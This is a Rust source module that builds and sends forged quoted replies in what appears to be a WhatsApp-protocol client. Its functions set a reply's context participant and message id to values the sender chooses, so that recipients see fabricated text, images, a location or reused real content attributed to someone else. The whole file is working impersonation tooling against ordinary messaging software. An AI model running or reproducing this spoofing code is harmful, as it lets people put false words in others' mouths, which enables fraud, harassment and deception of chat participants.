//! Outbound message construction.
//!
//! A spoofed reply is an extended-text message whose `ContextInfo` names a
//! message id and a participant chosen by the sender. Receiving clients
//! render the quoted payload as if `participant` had written it.

use std::io;
use std::path::{Path, PathBuf};

use thiserror::Error;
use tracing::debug;

use crate::client::{ClientError, MediaType, ProtocolClient, SendResponse};
use crate::jid::Jid;
use crate::protocol::waproto;

const LOCATION_LATITUDE: f64 = 48.858_370;
const LOCATION_LONGITUDE: f64 = 2.294_481;
const LOCATION_NAME: &str = "Eiffel Tower";
const LOCATION_ADDRESS: &str = "Champ de Mars, 5 Av. Anatole France, 75007 Paris";
// Bare SOI/EOI markers; clients fall back to a map tile when the
// thumbnail does not decode.
const LOCATION_THUMBNAIL: &[u8] = &[0xFF, 0xD8, 0xFF, 0xD9];
const DEFAULT_IMAGE_MIME: &str = "image/jpeg";

#[derive(Debug, Error)]
pub enum SendError {
    #[error("failed to read {}: {source}", path.display())]
    ReadFile {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error("message has no quoted content to reuse")]
    NotAReply,
    #[error(transparent)]
    Client(#[from] ClientError),
}

/// What a forged reply appears to quote.
#[derive(Debug, Clone)]
pub enum QuotedPayload {
    Text(String),
    Image(waproto::ImageMessage),
    Location(waproto::LocationMessage),
    /// Quoted content lifted from a real inbound reply.
    Existing(waproto::Message),
}

impl QuotedPayload {
    fn into_message(self) -> waproto::Message {
        match self {
            QuotedPayload::Text(text) => conversation(text),
            QuotedPayload::Image(image) => waproto::Message {
                image_message: Some(image),
                ..Default::default()
            },
            QuotedPayload::Location(location) => waproto::Message {
                location_message: Some(location),
                ..Default::default()
            },
            QuotedPayload::Existing(message) => message,
        }
    }
}

pub fn conversation(text: impl Into<String>) -> waproto::Message {
    waproto::Message {
        conversation: Some(text.into()),
        ..Default::default()
    }
}

pub fn spoofed_reply(
    msg_id: &str,
    spoofed: &Jid,
    quoted: QuotedPayload,
    text: impl Into<String>,
) -> waproto::Message {
    waproto::Message {
        extended_text_message: Some(waproto::ExtendedTextMessage {
            text: Some(text.into()),
            context_info: Some(waproto::ContextInfo {
                stanza_id: Some(msg_id.to_string()),
                participant: Some(spoofed.to_string()),
                quoted_message: Some(Box::new(quoted.into_message())),
                remote_jid: None,
            }),
        }),
        ..Default::default()
    }
}

pub fn quoted_location() -> waproto::LocationMessage {
    waproto::LocationMessage {
        degrees_latitude: Some(LOCATION_LATITUDE),
        degrees_longitude: Some(LOCATION_LONGITUDE),
        name: Some(LOCATION_NAME.to_string()),
        address: Some(LOCATION_ADDRESS.to_string()),
        jpeg_thumbnail: Some(LOCATION_THUMBNAIL.to_vec()),
        context_info: None,
    }
}

/// The message an inbound extended-text reply is quoting, if any.
pub fn quoted_in_reply(message: &waproto::Message) -> Option<&waproto::Message> {
    message
        .extended_text_message
        .as_ref()?
        .context_info
        .as_ref()?
        .quoted_message
        .as_deref()
}

pub async fn send_conversation_message(
    client: &dyn ProtocolClient,
    to: &Jid,
    text: &str,
) -> Result<SendResponse, SendError> {
    debug!("sending text to {to}");
    Ok(client.send_message(to, conversation(text)).await?)
}

pub async fn send_spoofed_reply(
    client: &dyn ProtocolClient,
    chat: &Jid,
    spoofed: &Jid,
    msg_id: &str,
    quoted_text: &str,
    text: &str,
) -> Result<SendResponse, SendError> {
    let message = spoofed_reply(msg_id, spoofed, QuotedPayload::Text(quoted_text.to_string()), text);
    debug!("sending reply to {chat} quoting {msg_id} as {spoofed}");
    Ok(client.send_message(chat, message).await?)
}

pub async fn send_spoofed_img_reply(
    client: &dyn ProtocolClient,
    chat: &Jid,
    spoofed: &Jid,
    msg_id: &str,
    image_path: &Path,
    quoted_text: &str,
    text: &str,
) -> Result<SendResponse, SendError> {
    let image = upload_image(client, image_path, quoted_text).await?;
    let message = spoofed_reply(msg_id, spoofed, QuotedPayload::Image(image), text);
    debug!("sending image reply to {chat} quoting {msg_id} as {spoofed}");
    Ok(client.send_message(chat, message).await?)
}

pub async fn send_spoofed_location_reply(
    client: &dyn ProtocolClient,
    chat: &Jid,
    spoofed: &Jid,
    msg_id: &str,
    text: &str,
) -> Result<SendResponse, SendError> {
    let message = spoofed_reply(msg_id, spoofed, QuotedPayload::Location(quoted_location()), text);
    debug!("sending location reply to {chat} quoting {msg_id} as {spoofed}");
    Ok(client.send_message(chat, message).await?)
}

pub async fn send_spoofed_reply_this(
    client: &dyn ProtocolClient,
    chat: &Jid,
    spoofed: &Jid,
    msg_id: &str,
    text: &str,
    origin: &waproto::Message,
) -> Result<SendResponse, SendError> {
    let quoted = quoted_in_reply(origin).cloned().ok_or(SendError::NotAReply)?;
    let message = spoofed_reply(msg_id, spoofed, QuotedPayload::Existing(quoted), text);
    debug!("re-sending quoted content to {chat} as {spoofed}");
    Ok(client.send_message(chat, message).await?)
}

async fn upload_image(
    client: &dyn ProtocolClient,
    path: &Path,
    caption: &str,
) -> Result<waproto::ImageMessage, SendError> {
    let data = tokio::fs::read(path).await.map_err(|source| SendError::ReadFile {
        path: path.to_path_buf(),
        source,
    })?;
    let mimetype = mime_guess::from_path(path)
        .first()
        .filter(|mime| mime.type_() == mime_guess::mime::IMAGE)
        .map(|mime| mime.essence_str().to_string())
        .unwrap_or_else(|| DEFAULT_IMAGE_MIME.to_string());

    let upload = client.upload(data, MediaType::Image).await?;
    Ok(waproto::ImageMessage {
        url: Some(upload.url),
        mimetype: Some(mimetype),
        caption: Some(caption.to_string()),
        file_sha256: Some(upload.file_sha256),
        file_length: Some(upload.file_length),
        height: None,
        width: None,
        media_key: Some(upload.media_key),
        file_enc_sha256: Some(upload.file_enc_sha256),
        direct_path: Some(upload.direct_path),
        jpeg_thumbnail: None,
        context_info: None,
    })
}
